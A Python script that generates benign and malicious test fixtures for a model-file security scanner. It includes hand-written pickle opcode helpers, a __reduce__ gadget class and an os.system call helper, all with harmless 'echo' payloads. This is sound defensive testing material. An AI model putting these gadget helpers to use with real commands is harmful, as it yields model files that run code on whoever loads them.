#!/usr/bin/python3
"""Generate aigis test fixtures under testdata/models/.

Run with Debian's interpreter (see README.md in this folder):

    /usr/bin/python3 testdata/gen/make_fixtures.py

Benign fixtures are produced by the real libraries (torch, numpy, scikit-learn,
joblib, pandas, dill, cloudpickle). Malicious fixtures are only ever *dumped*:
either a real pickler serialises an object whose __reduce__ returns the gadget,
or the pickle opcodes are written byte by byte with the helpers below. Nothing
malicious is ever loaded by this script. Every payload is harmless on purpose
(`echo aigis-fixture`, hosts 127.0.0.1 / *.example.invalid, paths under /tmp).

The output is deterministic as far as the libraries allow: the script re-execs
itself with PYTHONHASHSEED=0 (set ordering), seeds torch/numpy, and sets fixed
timestamps in every archive it writes itself.
"""

import os
import sys

if os.environ.get("PYTHONHASHSEED") != "0":
    env = dict(os.environ, PYTHONHASHSEED="0")
    os.execve(sys.executable, [sys.executable] + sys.argv, env)

import base64
import bdb
import bz2
import cProfile
import code
import collections
import copyreg
import datetime
import decimal
import fractions
import functools
import gzip
import imaplib
import importlib
import io
import json
import logging
import lzma
import marshal
import operator
import pdb
import pickle
import pkgutil
import profile
import pty
import pydoc
import re
import runpy
import shutil
import socket
import ssl
import struct
import subprocess
import tarfile
import tempfile
import time
import timeit
import trace
import urllib.request
import uuid
import venv
import warnings
import webbrowser
import zipfile
import zlib

import ensurepip
import _aix_support
import _osx_support
import multiprocessing.util

warnings.filterwarnings("ignore")

import cloudpickle
import dill
import joblib
import lz4.frame  # noqa: F401  (joblib's lz4 compressor needs it)
import numpy as np
import numpy.f2py.crackfortran
import numpy.testing._private.utils
import pandas as pd
import torch
import torch.jit.unsupported_tensor_ops
import torch.storage
import torch.utils.collect_env
import torch.utils.bottleneck.__main__ as bottleneck_main
from sklearn.cluster import KMeans
from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.normpath(os.path.join(HERE, "..", "models"))
FIXED_MTIME = 946684800  # 2000-01-01T00:00:00Z

CMD = "echo aigis-fixture"
PYSTMT = "__import__('os').system('echo aigis-fixture')"
LOCAL_URL = "http://127.0.0.1:9/aigis-fixture"

LABELS = {}


# --------------------------------------------------------------------------
# bookkeeping


def out_path(rel):
    p = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def record(rel, label, technique, section, expect=None):
    assert rel not in LABELS, rel
    entry = {"label": label, "technique": technique, "section": section}
    if label == "malicious":
        assert expect, rel
        entry["expect"] = expect
    elif expect:
        entry["expect"] = expect
    LABELS[rel] = entry


def write_bytes(rel, data):
    with open(out_path(rel), "wb") as f:
        f.write(data)


def benign(rel, data, technique, section=""):
    if data is not None:
        write_bytes(rel, data)
    record(rel, "benign", technique, section)


def bad(rel, data, technique, expect, section):
    if data is not None:
        write_bytes(rel, data)
    record(rel, "malicious", technique, section, expect)


# --------------------------------------------------------------------------
# gadget objects: a real pickler serialises them, nobody ever loads them


class R:
    """Pickles as REDUCE(fn, args). Callable so it can be nested as a callable."""

    def __init__(self, fn, *args):
        self.fn = fn
        self.args = args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *a, **k):  # never used; only makes pickle accept it as func
        raise RuntimeError("fixture gadget must never be called")


def dumps(obj, proto):
    return pickle.dumps(obj, protocol=proto)


# --------------------------------------------------------------------------
# raw opcode helpers (protocol-aware, no memo unless asked for)

MARK = b"("
STOP = b"."
POP = b"0"
TUPLE = b"t"
REDUCE = b"R"
BUILD = b"b"
SETITEM = b"s"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
OBJ = b"o"
EMPTY_DICT = b"}"


class Raw(bytes):
    """Already-encoded opcode fragment to splice into enc()."""


def proto_op(n):
    return b"\x80" + bytes([n])


def glob(mod, name):
    """GLOBAL opcode (all protocols)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod, name, proto=4):
    """STACK_GLOBAL with two SHORT_BINUNICODE operands."""
    return enc(mod, proto) + enc(name, proto) + STACK_GLOBAL


def ref(mod, name, proto):
    return Raw(sglob(mod, name, proto) if proto >= 4 else glob(mod, name))


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def enc(v, proto=2):
    """Encode a plain Python value with opcodes valid at `proto`."""
    if isinstance(v, Raw):
        return bytes(v)
    if v is None:
        return b"N"
    if v is True:
        return b"\x88" if proto >= 2 else b"I01\n"
    if v is False:
        return b"\x89" if proto >= 2 else b"I00\n"
    if isinstance(v, int):
        if proto >= 1 and 0 <= v < 256:
            return b"K" + bytes([v])
        if proto >= 1 and -(2**31) <= v < 2**31:
            return b"J" + struct.pack("<i", v)
        return b"I%d\n" % v
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v) if proto >= 1 else b"F" + repr(v).encode() + b"\n"
    if isinstance(v, str):
        b = v.encode("utf-8")
        if proto >= 4 and len(b) < 256:
            return b"\x8c" + bytes([len(b)]) + b
        if proto >= 1:
            return b"X" + struct.pack("<I", len(b)) + b
        assert "\n" not in v and "\\" not in v
        return b"V" + v.encode("raw-unicode-escape") + b"\n"
    if isinstance(v, bytes):
        assert proto >= 3, "bytes need protocol >= 3 in raw helpers"
        if len(v) < 256:
            return b"C" + bytes([len(v)]) + v
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        if not v:
            return b")" if proto >= 1 else b"(t"
        body = b"".join(enc(x, proto) for x in v)
        if proto >= 2 and len(v) <= 3:
            return body + {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(v)]
        return MARK + body + TUPLE
    if isinstance(v, list):
        return MARK + b"".join(enc(x, proto) for x in v) + b"l"
    if isinstance(v, dict):
        return MARK + b"".join(enc(k, proto) + enc(x, proto) for k, x in v.items()) + b"d"
    raise TypeError(type(v))


def call(fn, *args, proto=2):
    """fn (Raw fragment pushing a callable) applied to args via REDUCE."""
    return Raw(enc(fn, proto) + enc(tuple(args), proto) + REDUCE)


def pk(body, proto=2):
    """Complete pickle: PROTO (if >=2) + body + STOP."""
    return (proto_op(proto) if proto >= 2 else b"") + body + STOP


def os_system_call(proto=2, mod="os"):
    return call(ref(mod, "system", proto), CMD, proto=proto)


# --------------------------------------------------------------------------
# archives


def torch_zip_records(path):
    """(name-without-top-folder, bytes) for every member of a torch zip, in order."""
    out = []
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            name = info.filename.split("/", 1)[1]
            out.append((name, z.read(info)))
    return out


def write_torch_zip(dest, records, top="archive"):
    """Write records with torch's own PyTorchFileWriter (the real torch.save
    container: stored members, 64-byte alignment padding, data descriptors,
    zip64 end records). The writer appends `version` itself."""
    tmpdir = tempfile.mkdtemp()
    try:
        tmp = os.path.join(tmpdir, top + ".pt")
        w = torch._C.PyTorchFileWriter(tmp)
        for name, data in records:
            if name == "version":
                continue
            w.write_record(name, data, len(data))
        w.write_end_of_file()
        del w
        with open(tmp, "rb") as f:
            data = f.read()
    finally:
        shutil.rmtree(tmpdir)
    with open(out_path(dest), "wb") as f:
        f.write(data)
    return data


def zip_entries(data):
    """Parse central directory: list of dicts with offsets (for patching)."""
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", data, eocd + 12)
    if cd_off == 0xFFFFFFFF:
        loc = data.rfind(b"PK\x06\x07")
        z64 = struct.unpack_from("<Q", data, loc + 8)[0]
        cd_off = struct.unpack_from("<Q", data, z64 + 48)[0]
    entries = []
    p = cd_off
    while data[p:p + 4] == b"PK\x01\x02":
        flags = struct.unpack_from("<H", data, p + 8)[0]
        crc, csize, usize, nlen, xlen, clen = struct.unpack_from("<IIIHHH", data, p + 16)
        lho = struct.unpack_from("<I", data, p + 42)[0]
        name = data[p + 46:p + 46 + nlen].decode()
        entries.append(dict(name=name, cd=p, flags=flags, crc=crc, csize=csize,
                            usize=usize, lho=lho))
        p += 46 + nlen + xlen + clen
    return entries


def patch_zip(data, member_suffix, crc=None, flags_or=0, flags_where="lc", local_name=None):
    b = bytearray(data)
    hit = False
    for e in zip_entries(data):
        if not e["name"].endswith(member_suffix):
            continue
        hit = True
        lho = e["lho"]
        assert b[lho:lho + 4] == b"PK\x03\x04"
        lflags = struct.unpack_from("<H", b, lho + 6)[0]
        nlen, xlen = struct.unpack_from("<HH", b, lho + 26)
        if crc is not None:
            struct.pack_into("<I", b, e["cd"] + 16, crc)
            if lflags & 0x8:  # data descriptor after the data
                dd = lho + 30 + nlen + xlen + e["csize"]
                if b[dd:dd + 4] == b"PK\x07\x08":
                    dd += 4
                struct.pack_into("<I", b, dd, crc)
            else:
                struct.pack_into("<I", b, lho + 14, crc)
        if flags_or and "l" in flags_where:
            struct.pack_into("<H", b, lho + 6, lflags | flags_or)
        if flags_or and "c" in flags_where:
            struct.pack_into("<H", b, e["cd"] + 8, e["flags"] | flags_or)
        if local_name is not None:
            old = bytes(b[lho + 30:lho + 30 + nlen]).decode()
            new = local_name(old).encode()
            assert len(new) == nlen
            b[lho + 30:lho + 30 + nlen] = new
    assert hit, member_suffix
    return bytes(b)


def plain_zip(members, compress=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2000, 1, 1, 0, 0, 0))
            zi.compress_type = compress
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def tar_bytes(members, fmt=tarfile.PAX_FORMAT):
    """members: list of (name, bytes) or (name, ('symlink', target))."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = FIXED_MTIME
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            if isinstance(data, tuple) and data[0] == "symlink":
                ti.type = tarfile.SYMTYPE
                ti.linkname = data[1]
                t.addfile(ti)
            else:
                ti.size = len(data)
                ti.mode = 0o644
                t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def seven_zip(dest_rel, inner_name, inner_data):
    tmpdir = tempfile.mkdtemp()
    try:
        src = os.path.join(tmpdir, inner_name)
        os.makedirs(os.path.dirname(src), exist_ok=True)
        with open(src, "wb") as f:
            f.write(inner_data)
        os.utime(src, (FIXED_MTIME, FIXED_MTIME))
        dest = out_path(dest_rel)
        if os.path.exists(dest):
            os.remove(dest)
        subprocess.run(["7z", "a", "-t7z", "-mtc=off", "-mta=off", "-mtm=off", "-bd", "-y",
                        dest, inner_name], cwd=tmpdir, check=True,
                       stdout=subprocess.DEVNULL)
    finally:
        shutil.rmtree(tmpdir)


def gzip_bytes(data):
    return gzip.compress(data, compresslevel=6, mtime=0)


# --------------------------------------------------------------------------
# BENIGN


def tiny_model():
    torch.manual_seed(0)
    return torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3),
        torch.nn.BatchNorm2d(2),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(8, 4),
        torch.nn.LayerNorm(4),
        torch.nn.Embedding(5, 3),
        torch.nn.LSTM(3, 2),
    )


def normalize_legacy_keys(path):
    """Legacy torch files key storages by str(storage._cdata), a memory address, and
    write the storage blobs in sorted-key order. Rename every key, in order of first
    appearance in the object pickle, to a same-length decimal string, and reorder the
    key list and the blobs to match, so reruns give identical bytes. Protocol 2 without
    FRAMEs: same-length BINUNICODE replacements keep every other byte in place."""
    import pickletools
    parts, tail = legacy_torch_parts(path)
    old_list = [arg for op, arg, _ in pickletools.genops(parts[4]) if op.name == "BINUNICODE"]
    keyset = set(old_list)
    memo, last_global, order, elsize = {}, None, [], {}
    prev = None
    for op, arg, _ in pickletools.genops(parts[3]):
        if op.name == "GLOBAL":
            last_global = arg
        elif op.name == "BINPUT" and prev is not None and prev[0] == "GLOBAL":
            memo[arg] = prev[1]
        elif op.name in ("BINGET", "LONG_BINGET") and arg in memo:
            last_global = memo[arg]
        elif op.name == "BINUNICODE" and arg in keyset and arg not in elsize:
            mod, name = last_global.split(" ")
            assert mod == "torch" and name.endswith("Storage"), last_global
            elsize[arg] = torch._utils._element_size(getattr(torch, name).dtype)
            order.append(arg)
        prev = (op.name, arg)
    assert sorted(order) == sorted(old_list)
    blobs, pos = {}, 0
    for k in old_list:
        numel = struct.unpack_from("<Q", tail, pos)[0]
        size = 8 + numel * elsize[k]
        blobs[k] = tail[pos:pos + size]
        pos += size
    assert pos == len(tail)
    width = len(old_list[0])
    assert all(len(k) == width for k in old_list)
    rename = {k: str(10 ** (width - 1) + i) for i, k in enumerate(order)}
    obj = parts[3]
    for k, new in rename.items():
        hdr = b"X" + struct.pack("<I", width)
        assert obj.count(hdr + k.encode()) == 1
        obj = obj.replace(hdr + k.encode(), hdr + new.encode())
    key_list = pickle.dumps([rename[k] for k in order], protocol=2)
    data = b"".join(parts[:3]) + obj + key_list + b"".join(blobs[k] for k in order)
    with open(path, "wb") as f:
        f.write(data)


def gen_benign_torch():
    d = "benign/torch/"
    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 3)
    sd = lin.state_dict()

    torch.save(sd, out_path(d + "state_dict_zip.pt"))
    benign(d + "state_dict_zip.pt", None, "torch.save(state_dict) zip format (default)")
    torch.save(sd, out_path(d + "state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
    normalize_legacy_keys(out_path(d + "state_dict_legacy.pt"))
    benign(d + "state_dict_legacy.pt", None,
           "torch.save(state_dict, _use_new_zipfile_serialization=False): legacy stacked "
           "pickles (magic, protocol, sys_info, object, storage keys) + raw storage bytes")

    model = tiny_model()
    torch.save(model, out_path(d + "whole_module_zip.pt"))
    benign(d + "whole_module_zip.pt", None,
           "torch.save(nn.Sequential) whole module (Conv2d/BatchNorm/ReLU/Flatten/Linear/"
           "LayerNorm/Embedding/LSTM), zip")
    torch.save(model, out_path(d + "whole_module_legacy.pt"), _use_new_zipfile_serialization=False)
    normalize_legacy_keys(out_path(d + "whole_module_legacy.pt"))
    benign(d + "whole_module_legacy.pt", None,
           "whole module, legacy format (persistent ids carry module source text)")

    opt_model = torch.nn.Linear(3, 2)
    adam = torch.optim.Adam(opt_model.parameters(), lr=1e-3)
    sgd = torch.optim.SGD(opt_model.parameters(), lr=0.1, momentum=0.9)
    x = torch.randn(5, 3)
    for o in (adam, sgd):
        o.zero_grad()
        opt_model(x).sum().backward()
        o.step()
    ckpt = {
        "epoch": 3,
        "model_state_dict": opt_model.state_dict(),
        "optimizer_state_dict": adam.state_dict(),
        "sgd_state_dict": sgd.state_dict(),
        "loss": 0.4375,
        "loss_tensor": torch.tensor(0.4375),
    }
    torch.save(ckpt, out_path(d + "optimizer_checkpoint.pt"))
    benign(d + "optimizer_checkpoint.pt", None,
           "training checkpoint: model + Adam and SGD(momentum) state_dicts + epoch + loss")

    q = torch.quantize_per_tensor(torch.tensor([-1.0, 0.0, 0.5, 1.0]), 0.1, 0, torch.qint8)
    qc = torch.quantize_per_channel(torch.randn(2, 3), torch.tensor([0.1, 0.2]),
                                    torch.tensor([0, 1]), 0, torch.quint8)
    torch.save({"q": q, "qc": qc}, out_path(d + "quantized_tensors.pt"))
    benign(d + "quantized_tensors.pt", None,
           "torch.quantize_per_tensor (qint8) and quantize_per_channel (quint8) tensors")

    torch.manual_seed(0)
    fp = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    dq = torch.quantization.quantize_dynamic(fp, {torch.nn.Linear}, dtype=torch.qint8)
    torch.save(dq.state_dict(), out_path(d + "dynamic_quantized_state_dict.pt"))
    benign(d + "dynamic_quantized_state_dict.pt", None,
           "state_dict of torch.quantization.quantize_dynamic(Linear) model (packed params)")

    torch.manual_seed(0)
    dtypes = {
        "bf16": torch.randn(3, 2).to(torch.bfloat16),
        "f16": torch.randn(3, 2).to(torch.float16),
        "f64": torch.randn(2).double(),
        "i8": torch.tensor([-128, 0, 127], dtype=torch.int8),
        "u8": torch.tensor([0, 255], dtype=torch.uint8),
        "i64": torch.arange(4),
        "bool": torch.tensor([True, False]),
        "c64": torch.tensor([1 + 2j], dtype=torch.complex64),
        "view": torch.arange(10.0)[2:6],  # shares storage with offset
        "scalar": torch.tensor(1.5),
    }
    torch.save(dtypes, out_path(d + "dtypes.pt"))
    benign(d + "dtypes.pt", None,
           "bf16, float16, float64, int8, uint8, int64, bool, complex64 tensors, a storage view "
           "with offset, a 0-d tensor")

    sp = torch.sparse_coo_tensor(torch.tensor([[0, 1, 2], [2, 0, 1]]),
                                 torch.tensor([1.0, 2.0, 3.0]), (3, 3))
    csr = torch.tensor([[0.0, 1.0], [2.0, 0.0]]).to_sparse_csr()
    torch.save({"coo": sp, "csr": csr}, out_path(d + "sparse.pt"))
    benign(d + "sparse.pt", None, "sparse COO and CSR tensors")

    torch.save(sd, out_path(d + "weights.bin"))
    benign(d + "weights.bin", None,
           "torch.save to weights.bin: zip top folder is 'weights' (file stem), not 'archive'")
    buf = io.BytesIO()
    torch.save(sd, buf)
    write_bytes(d + "saved_via_buffer.pt", buf.getvalue())
    benign(d + "saved_via_buffer.pt", None,
           "torch.save to a BytesIO: top folder 'archive' (HF-style default)")
    torch.save(sd, out_path(d + "my_run_step100.pt"))
    os.replace(out_path(d + "my_run_step100.pt"), out_path(d + "pytorch_model.bin"))
    benign(d + "pytorch_model.bin", None,
           "torch zip saved as my_run_step100.pt then renamed: top folder 'my_run_step100' "
           "differs from the file name")

    # tensor whose raw storage bytes spell pickle opcodes: must not be parsed as pickle
    trap = np.frombuffer(pk(glob("posix", "system") + enc(("x",)) + REDUCE).ljust(32, b"\0"),
                         dtype=np.uint8).copy()
    torch.save({"bytes": torch.from_numpy(trap)}, out_path(d + "storage_bytes_look_like_pickle.pt"))
    benign(d + "storage_bytes_look_like_pickle.pt", None,
           "uint8 tensor whose storage bytes (archive/data/0) are a pickle calling posix.system; "
           "tensor blobs are raw data, never unpickled by torch")

    torch.manual_seed(0)
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()))
    torch.jit.save(scripted, out_path(d + "torchscript_script.pt"))
    benign(d + "torchscript_script.pt", None,
           "torch.jit.script + torch.jit.save (TorchScript archive: code/, constants.pkl, "
           "data.pkl with __torch__.* classes)", "D43")
    torch.manual_seed(0)
    conv = torch.nn.Sequential(torch.nn.Conv2d(1, 1, 2), torch.nn.BatchNorm2d(1)).eval()
    traced = torch.jit.trace(conv, torch.randn(1, 1, 3, 3))
    torch.jit.save(traced, out_path(d + "torchscript_trace.pt"))
    benign(d + "torchscript_trace.pt", None, "torch.jit.trace + torch.jit.save", "D43")


def sklearn_models():
    rng = np.random.RandomState(0)
    X = rng.randn(30, 3)
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    rf = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(X, y)
    docs = ["the cat sat on the mat", "dogs chase cats", "model files can hide code",
            "never load untrusted pickles"]
    # no stop_words: with them sklearn stores _stop_words_id = id(list), a memory address
    tfidf = TfidfVectorizer(max_df=0.5).fit(docs)
    gb = GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y)
    km = KMeans(n_clusters=2, n_init=3, random_state=0).fit(X)
    return {"pipeline": pipe, "random_forest": rf, "tfidf": tfidf,
            "gradient_boosting": gb, "kmeans": km}


def gen_benign_sklearn():
    d = "benign/sklearn/"
    models = sklearn_models()
    for name, m in models.items():
        joblib.dump(m, out_path(d + f"{name}.joblib"))
        benign(d + f"{name}.joblib", None,
               f"scikit-learn {type(m).__name__} via joblib.dump (numpy arrays written raw "
               "after NumpyArrayWrapper BUILD)")
        write_bytes(d + f"{name}.pkl", pickle.dumps(m))
        benign(d + f"{name}.pkl", None,
               f"scikit-learn {type(m).__name__} via pickle.dump (protocol {pickle.DEFAULT_PROTOCOL})")

    rf = models["random_forest"]
    for tag, comp in [("zlib3", 3), ("gzip3", ("gzip", 3)), ("bz2_3", ("bz2", 3)),
                      ("xz3", ("xz", 3)), ("lzma3", ("lzma", 3)), ("lz4_3", ("lz4", 3))]:
        rel = d + f"random_forest_{tag}.joblib"
        joblib.dump(rf, out_path(rel), compress=comp)
        benign(rel, None, f"RandomForestClassifier joblib.dump(compress={comp!r})")

    # A numpy ufunc as a parameter pickles as _ufunc_reconstruct("numpy", "log1p").
    from sklearn.preprocessing import FunctionTransformer
    ft = FunctionTransformer(func=np.log1p, inverse_func=np.expm1).fit(np.arange(6.0).reshape(3, 2))
    write_bytes(d + "function_transformer_ufunc.pkl", pickle.dumps(ft))
    benign(d + "function_transformer_ufunc.pkl", None,
           "FunctionTransformer(np.log1p) via pickle: ufuncs pickle through numpy.core._ufunc_reconstruct")

    rel = d + "pipeline_protocol2.joblib"
    joblib.dump(models["pipeline"], out_path(rel), protocol=2)
    benign(rel, None, "Pipeline joblib.dump(protocol=2): numpy scalars via _codecs.encode")

    rel = "benign/joblib/arrays_bytes_look_like_pickle.joblib"
    trap = np.frombuffer(pk(glob("posix", "system") + enc(("x",)) + REDUCE).ljust(48, b"\0"),
                         dtype=np.uint8).copy()
    joblib.dump({"trap": trap, "f32": np.arange(5, dtype=np.float32),
                 "fortran": np.asfortranarray(np.arange(6, dtype=np.int16).reshape(2, 3)),
                 "structured": np.array([(1, 2.0)], dtype=[("a", "<i4"), ("b", "<f8")]),
                 "empty": np.zeros((0, 3)), "objects": np.array([1, "two", None], dtype=object)},
                out_path(rel))
    benign(rel, None,
           "joblib.dump of arrays: a uint8 array whose raw bytes are a posix.system pickle "
           "(must be skipped as array data), float32, Fortran-order int16, structured dtype, "
           "empty array, object array (nested protocol-2 pickle)")
    rel2 = "benign/joblib/arrays_bytes_look_like_pickle_zlib.joblib"
    joblib.dump({"trap": trap, "f32": np.arange(5, dtype=np.float32)}, out_path(rel2), compress=3)
    benign(rel2, None, "same trap array, joblib compress=3 (zlib)")


def gen_benign_pandas():
    d = "benign/pandas/"
    df = pd.DataFrame({
        "i": np.arange(4, dtype=np.int64),
        "f": np.linspace(0, 1, 4),
        "s": ["a", "b", "c", "d"],
        "t": pd.to_datetime(["2020-01-01", "2020-01-02", "2020-01-03", "2020-01-04"]),
        "tz": pd.date_range("2021-01-01", periods=4, freq="H", tz="UTC"),
        "c": pd.Categorical(["x", "y", "x", "z"]),
        "b": [True, False, True, False],
    })
    df.to_pickle(out_path(d + "dataframe_to_pickle.pkl"))
    benign(d + "dataframe_to_pickle.pkl", None,
           "pandas DataFrame (int, float, str, datetime, tz-aware datetime, categorical, bool) "
           "via DataFrame.to_pickle (protocol 5)")
    write_bytes(d + "dataframe_pickle_dump.pkl", pickle.dumps(df))
    benign(d + "dataframe_pickle_dump.pkl", None, "same DataFrame via pickle.dump (protocol 4)")
    s = pd.Series([1.5, 2.5], index=pd.Index(["a", "b"], name="k"), name="v")
    write_bytes(d + "series_protocol2.pkl", pickle.dumps(s, protocol=2))
    benign(d + "series_protocol2.pkl", None, "pandas Series with named Index, protocol 2")


def gen_benign_numpy():
    d = "benign/numpy/"
    arrays = {
        "f32": np.arange(6, dtype=np.float32).reshape(2, 3),
        "i64": np.arange(4, dtype=np.int64),
        "structured": np.array([(1, 2.5, b"ab"), (3, 4.5, b"cd")],
                               dtype=[("id", "<i4"), ("w", "<f8"), ("tag", "S2")]),
        "objects": np.array([1, "two", None, [3, [4, 5]], {"k": 1.5}], dtype=object),
    }
    for name, a in arrays.items():
        buf = io.BytesIO()
        np.save(buf, a, allow_pickle=(a.dtype == object))
        write_bytes(d + f"{name}.npy", buf.getvalue())
        benign(d + f"{name}.npy", None,
               f"np.save {a.dtype} array" + (" (object array: pickle protocol 3 after the "
                                               "npy header)" if a.dtype == object else ""))
    buf = io.BytesIO()
    np.savez(buf, **arrays)
    write_bytes(d + "arrays.npz", buf.getvalue())
    benign(d + "arrays.npz", None, "np.savez of the four arrays (zip64 members, stored)")
    buf = io.BytesIO()
    np.savez_compressed(buf, **arrays)
    write_bytes(d + "arrays_compressed.npz", buf.getvalue())
    benign(d + "arrays_compressed.npz", None, "np.savez_compressed (deflate)")
    trap = np.frombuffer(pk(glob("posix", "system") + enc(("x",)) + REDUCE), dtype=np.uint8)
    buf = io.BytesIO()
    np.save(buf, trap)
    write_bytes(d + "uint8_bytes_look_like_pickle.npy", buf.getvalue())
    benign(d + "uint8_bytes_look_like_pickle.npy", None,
           "uint8 .npy whose data bytes are a posix.system pickle: plain dtype, never unpickled")
    buf = io.BytesIO()
    np.save(buf, np.arange(3, dtype=">f8"))
    write_bytes(d + "big_endian_f8.npy", buf.getvalue())
    benign(d + "big_endian_f8.npy", None, "big-endian float64 .npy")


def stdlib_object():
    dd = collections.defaultdict(list)
    dd["a"].append(1)
    return {
        "dict": {"k": 1}, "list": [1, 2, 3], "tuple": (1, "two", 3.0), "set": {1, 2, 3},
        "frozenset": frozenset({"a", "b"}), "bytes": b"\x00\x80\xffcos\nsystem\n",
        "bytearray": bytearray(b"ba"), "str": "h\u00e9llo \u2603 cos\nsystem\n", "int": 7,
        "bigint": 2**100, "negint": -(2**40), "float": 1.25, "complex": 1 + 2j, "bool": True,
        "none": None, "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
        "defaultdict": dd, "deque": collections.deque([1, 2], maxlen=5),
        "counter": collections.Counter("abca"),
        "datetime": datetime.datetime(2020, 1, 2, 3, 4, 5, 6),
        "aware": datetime.datetime(2020, 1, 2, tzinfo=datetime.timezone(datetime.timedelta(hours=2))),
        "date": datetime.date(2020, 1, 2), "time": datetime.time(12, 30),
        "timedelta": datetime.timedelta(days=1, seconds=2), "utc": datetime.timezone.utc,
        "decimal": decimal.Decimal("1.10"), "fraction": fractions.Fraction(1, 3),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
        "regex": re.compile(r"^ab+c$", re.I), "range": range(0, 10, 2), "slice": slice(1, 5),
        "ellipsis": Ellipsis,
    }


def gen_benign_stdlib():
    d = "benign/pickle/"
    obj = stdlib_object()
    obj["self"] = obj["list"]  # shared reference -> memo GET
    for p in range(0, 6):
        write_bytes(d + f"stdlib_containers_p{p}.pkl", pickle.dumps(obj, protocol=p))
        benign(d + f"stdlib_containers_p{p}.pkl", None,
               f"stdlib containers/values pickled at protocol {p} (sets, frozenset, bytes, "
               "bytearray, OrderedDict, defaultdict, deque, Counter, datetime family, Decimal, "
               "Fraction, UUID, re pattern, range, slice, Ellipsis, NotImplemented)")
    # Values that training checkpoints and configs carry (omegaconf metadata,
    # TrainingArguments): typing generics pickle as operator.getitem, enum
    # and flag members as builtins.getattr(cls, "NAME") since Python 3.11.
    import typing
    import enum
    import re as _re
    extras = {"types": [typing.List[int], typing.Optional[str], typing.Any,
                        typing.Dict[str, typing.Any], typing.Tuple[int, ...]],
              "flags": [_re.IGNORECASE, _re.MULTILINE | _re.DOTALL]}
    for p in (2, 4):
        name = f"typing_and_enum_members_p{p}.pkl"
        write_bytes(d + name, pickle.dumps(extras, protocol=p))
        benign(d + name, None, f"typing generics and stdlib enum/flag members at protocol {p} "
               "(operator.getitem, builtins.getattr(cls, NAME))")
    # pure-python pickler (different opcode choices: MEMOIZE everywhere, FRAME)
    buf = io.BytesIO()
    pickle._Pickler(buf, protocol=4).dump(obj)
    write_bytes(d + "stdlib_containers_p4_pure_python.pkl", buf.getvalue())
    benign(d + "stdlib_containers_p4_pure_python.pkl", None,
           "same object via the pure-Python pickle._Pickler at protocol 4")
    # protocol 5 with an in-band PickleBuffer and an out-of-band buffer stream
    inband = {"buf": pickle.PickleBuffer(bytearray(b"inband")), "ro": pickle.PickleBuffer(b"ro")}
    write_bytes(d + "protocol5_pickle_buffer_inband.pkl", pickle.dumps(inband, protocol=5))
    benign(d + "protocol5_pickle_buffer_inband.pkl", None,
           "protocol 5 PickleBuffer in band (BYTEARRAY8 / BYTES)")
    oob = []
    data = pickle.dumps({"w": pickle.PickleBuffer(b"out-of-band")}, protocol=5,
                        buffer_callback=oob.append)
    write_bytes(d + "protocol5_out_of_band.pkl", data)
    benign(d + "protocol5_out_of_band.pkl", None,
           "protocol 5 with buffer_callback: NEXT_BUFFER + READONLY_BUFFER, buffer not in file")
    write_bytes(d + "strings_mention_dangerous_names.pkl", pickle.dumps({
        "doc": "never call os.system or eval; cposix\nsystem\n is just text",
        "names": ["subprocess.Popen", "builtins.exec", "__reduce__"],
        b"raw": b"c__builtin__\neval\n(S'1'\ntR.",
    }, protocol=4))
    benign(d + "strings_mention_dangerous_names.pkl", None,
           "plain dict whose strings/bytes mention os.system, eval and even contain opcode text")
    write_bytes(d + "stacked_two_benign.pkl",
                pickle.dumps({"a": 1}, protocol=2) + pickle.dumps([1.0, 2.0], protocol=4))
    benign(d + "stacked_two_benign.pkl", None, "two benign pickles back to back", "B23")
    write_bytes(d + "empty_dict_p0.pkl", pickle.dumps({}, protocol=0))
    benign(d + "empty_dict_p0.pkl", None, "smallest protocol-0 pickle: (dp0\\n.")


def gen_benign_dill_cloudpickle():
    d = "benign/pickle/"
    data = {"weights": [0.1, 0.2, 0.3], "bias": 0.5, "layers": [[1, 2], [3, 4]], "name": "m"}
    write_bytes(d + "dill_plain_data.pkl", dill.dumps(data))
    benign(d + "dill_plain_data.pkl", None, "dill.dumps of plain dict/list/float data")
    write_bytes(d + "dill_ordered_dict.pkl", dill.dumps(collections.OrderedDict(a=[1, 2])))
    benign(d + "dill_ordered_dict.pkl", None, "dill.dumps of an OrderedDict")
